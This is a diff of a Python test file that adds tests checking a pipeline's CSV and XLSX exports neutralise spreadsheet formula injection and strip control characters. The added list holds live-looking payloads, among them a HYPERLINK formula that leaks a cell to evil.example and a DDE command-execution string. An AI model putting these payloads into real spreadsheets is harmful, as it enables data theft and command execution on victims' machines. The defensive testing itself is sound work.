@@ -9,6 +9,7 @@ doubled, re-encoded, delimiters swapped, truncated, headers duplicated...) goes 
 
 from __future__ import annotations
 
+import csv
 import random
 import tempfile
 from pathlib import Path
@@ -17,12 +18,16 @@ import duckdb
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 
 from ingestion import normalise as n
 from ingestion.load import ingest_file
 from ingestion.reading import Limits, RejectedFile, check_size, read_submission, sha256_of
+from scenetrack import pipeline
+from scenetrack.config import Paths
+from scenetrack.export import export
 from scenetrack.warehouse import RAW_DDL
-from tests.conftest import EVENT_COLUMNS
+from tests.conftest import EVENT_COLUMNS, event, write_csv
 
 SETTINGS = settings(
     max_examples=150,
@@ -222,3 +227,114 @@ def test_mutated_corpus_every_file_loaded_or_rejected_with_a_reason(
     # the corpus really is bad input: both outcomes occur, and quarantine is exercised
     assert sum(r.status == "rejected" for r in receipts) >= 10
     assert sum(r.rows_quarantined > 0 for r in receipts) >= 10
+
+
+# --------------------------------------------------------------------------- values out
+# Clerks' text reaches the exports (issue 17, findings 3 and 4): a value starting with = + - @
+# (or a tab or carriage return) must never become a live formula, and control characters must
+# never break the XLSX writer. Expected values are computed here, independently of the code.
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_VALUES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "智能\x01巡检\x07项目",
+    "\x1b[31m红色\x1b[0m",
+    "正常的项目名称",
+    "a=b 不是公式",
+]
+
+
+def _control_free(text: str) -> str:
+    return "".join(ch for ch in text if ord(ch) >= 0x20 or ch in "\t\n\r")
+
+
+def _csv_expected(text: str) -> str:
+    clean = _control_free(text)
+    return "'" + clean if clean.startswith(FORMULA_STARTS) else clean
+
+
+def _published_with(tmp: Path, values: list[str | None]) -> Paths:
+    """A home whose published file holds one table of ``values`` (and a number column)."""
+    p = Paths(tmp / "home").ensure()
+    con = duckdb.connect(str(p.published_db))
+    try:
+        con.execute("create table main.hostile (i integer, text varchar)")
+        con.executemany("insert into main.hostile values (?, ?)", list(enumerate(values)))
+    finally:
+        con.close()
+    return p
+
+
+def _exported(p: Paths, out: Path) -> tuple[list, list]:
+    export(p, "csv", ["hostile"], out)
+    export(p, "xlsx", ["hostile"], out)
+    with (out / "hostile.csv").open(encoding="utf-8-sig", newline="") as f:
+        csv_rows = list(csv.reader(f))[1:]
+    ws = load_workbook(out / "hostile.xlsx")["hostile"]
+    cells = [row[1] for row in ws.iter_rows(min_row=2)]
+    return csv_rows, cells
+
+
+@SETTINGS
+@given(
+    values=st.lists(
+        st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_VALUES)), min_size=1, max_size=8
+    )
+)
+def test_exports_never_write_a_live_formula_or_a_control_character(values: list[str]) -> None:
+    with tempfile.TemporaryDirectory() as d:
+        p = _published_with(Path(d), values)
+        csv_rows, cells = _exported(p, Path(d) / "out")
+    assert [int(r[0]) for r in csv_rows] == list(range(len(values)))
+    for value, (_, text), cell in zip(values, csv_rows, cells, strict=True):
+        assert text == _csv_expected(value)
+        clean = _control_free(value)
+        if not clean:  # an empty string is an empty cell
+            assert cell.value is None
+            continue
+        assert cell.data_type == "s"  # a text cell, never a formula ("f")
+        # XML turns every line end into a line feed when the sheet is read back
+        assert cell.value == clean.replace("\r\n", "\n").replace("\r", "\n")
+        assert bool(cell.quotePrefix) == clean.startswith(FORMULA_STARTS)
+
+
+@pytest.mark.e2e
+def test_hostile_values_travel_from_a_submission_to_safe_exports(tmp_path: Path) -> None:
+    """Formulas and control characters in a clerk's file: loaded with the control characters
+    removed (and said so in the receipt), published, and exported as inert text."""
+    rows = [
+        event("合肥", f"H{i}", "opportunity", "enter", "2025-03-01", supplier=value)
+        | {"project_name": value}
+        for i, value in enumerate(HOSTILE_VALUES)
+    ]
+    home = Paths(tmp_path / "home").ensure()
+    [receipt] = pipeline.ingest_paths(home, [write_csv(tmp_path / "hostile.csv", rows)])
+    assert (receipt.rows_loaded, receipt.rows_quarantined) == (len(rows), 0)
+    removed = [n for n in receipt.notes if "control characters" in n]
+    assert removed and "project_name (2)" in removed[0] and "supplier (2)" in removed[0]
+    pipeline.run(home)
+    out = tmp_path / "out"
+    export(home, "xlsx", ["fct_project_lifecycle"], out)
+    export(home, "csv", ["fct_project_lifecycle"], out)
+    ws = load_workbook(out / "fct_project_lifecycle.xlsx")["fct_project_lifecycle"]
+    header = [c.value for c in ws[1]]
+    names = {
+        row[header.index("project_id")].value: row[header.index("project_name")]
+        for row in ws.iter_rows(min_row=2)
+    }
+    with (out / "fct_project_lifecycle.csv").open(encoding="utf-8-sig", newline="") as f:
+        by_id = {r["project_id"]: r for r in csv.DictReader(f)}
+    for i, value in enumerate(HOSTILE_VALUES):
+        # the intake trims blanks (a tab or CR at the edge) and removes control characters
+        stored = _control_free(value).strip(" \t\r\n\u3000")
+        cell = names[f"H{i}"]
+        assert cell.data_type == "s" and cell.value == stored
+        assert bool(cell.quotePrefix) == stored.startswith(FORMULA_STARTS)
+        assert by_id[f"H{i}"]["project_name"] == _csv_expected(stored)
+        assert by_id[f"H{i}"]["supplier"] == _csv_expected(stored)
